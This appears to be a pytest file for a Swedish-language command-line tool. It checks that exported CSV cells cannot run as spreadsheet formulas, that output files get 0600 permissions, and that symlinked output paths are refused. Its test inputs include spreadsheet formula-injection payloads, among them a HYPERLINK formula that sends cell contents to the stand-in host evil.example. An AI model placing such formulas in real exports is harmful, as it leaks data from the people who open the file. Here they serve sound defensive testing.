"""Files the command line writes for people: no cell runs as a formula in a spreadsheet, and
the file is private (0600) and never written through a symlink."""
from __future__ import annotations

import csv
import io
import os
import stat
from datetime import datetime, timezone

import pytest

from bot import cli
from bot.cells import safe_cell
from bot.web.readlog import ReadLog
from tests.conftest import EXAMPLE_CONFIG

FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"klicka")', "+1+1", "-2+3", "@SUM(A1)",
            " =1+1", "\t=1+1", "\r\n=1+1", "＝1+1", "\u00a0@x"]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_cell_that_a_spreadsheet_would_run_stays_text(text):
    assert safe_cell(text).startswith("'")


@pytest.mark.parametrize("text", ["rapport.html", "VOK 2026/0001", "", "a=b", "e-post"])
def test_an_ordinary_cell_is_unchanged(text):
    assert safe_cell(text) == text


def _logg(data, *extra):
    today = datetime.now(timezone.utc).date().isoformat()
    return cli.main(["--config", str(EXAMPLE_CONFIG), "--data", str(data),
                     "logg", "--from", today, "--to", today, *extra])


def test_the_read_log_csv_neutralises_a_formula_in_an_attachment_name(tmp_path, capsys):
    data = tmp_path / "data"
    ReadLog(data).record(person="sven", number="VOK 2026/0001", what="attachment",
                         at=datetime.now(timezone.utc), document=1, detail=FORMULAS[0])
    out = tmp_path / "logg.csv"
    assert _logg(data, "--output", str(out)) == 0
    assert stat.S_IMODE(out.stat().st_mode) == 0o600
    rows = list(csv.reader(io.StringIO(out.read_text(encoding="utf-8"))))
    assert rows[1][-1] == "'" + FORMULAS[0]
    assert not any(cell.lstrip().startswith(("=", "+", "@")) for row in rows for cell in row)


def test_an_existing_output_file_is_made_private(tmp_path):
    data = tmp_path / "data"
    ReadLog(data).record(person="sven", number="VOK 2026/0001", what="case",
                         at=datetime.now(timezone.utc))
    out = tmp_path / "logg.csv"
    out.write_text("old")
    os.chmod(out, 0o644)
    assert _logg(data, "--output", str(out)) == 0
    assert stat.S_IMODE(out.stat().st_mode) == 0o600


def test_an_output_path_that_is_a_symlink_is_refused(tmp_path, capsys):
    data = tmp_path / "data"
    ReadLog(data).record(person="sven", number="VOK 2026/0001", what="case",
                         at=datetime.now(timezone.utc))
    elsewhere = tmp_path / "elsewhere.txt"
    elsewhere.write_text("untouched")
    link = tmp_path / "logg.csv"
    link.symlink_to(elsewhere)
    capsys.readouterr()
    assert _logg(data, "--output", str(link)) == 2
    assert elsewhere.read_text() == "untouched"
    assert "Kan inte skriva" in capsys.readouterr().err


def test_the_report_file_is_private(tmp_path):
    out = tmp_path / "rapport.csv"
    assert cli.main(["--config", str(EXAMPLE_CONFIG), "--data", str(tmp_path / "data"),
                     "report", "--year", "2026", "--format", "csv", "--output", str(out)]) == 0
    assert stat.S_IMODE(out.stat().st_mode) == 0o600
